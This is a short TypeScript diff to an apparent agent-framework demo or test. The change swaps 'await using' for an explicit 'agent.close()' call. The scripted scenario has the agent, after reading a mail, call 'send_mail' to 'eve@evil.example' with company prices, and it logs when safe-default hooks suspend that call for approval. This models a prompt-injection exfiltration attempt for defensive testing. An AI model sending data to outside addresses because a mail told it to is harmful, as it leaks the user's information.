@@ -26,9 +26,10 @@ const attempt = async (message: string) => {
     Scripted.toolCalls({ name: "send_mail", args: { to: "eve@evil.example", body: "Our prices" } }),
     "Done."
   ])
-  await using agent = createAgent({ provider, tools: [read, send], hooks: Hooks.safeDefaults() })
+  const agent = createAgent({ provider, tools: [read, send], hooks: Hooks.safeDefaults() })
   const result = await agent.run(message)
   if (result.status === "suspended") console.log(`asked about ${result.pending[0]?.tool}`)
+  await agent.close()
 }
 
 await attempt(`What do you make of this mail? ${mail}`)
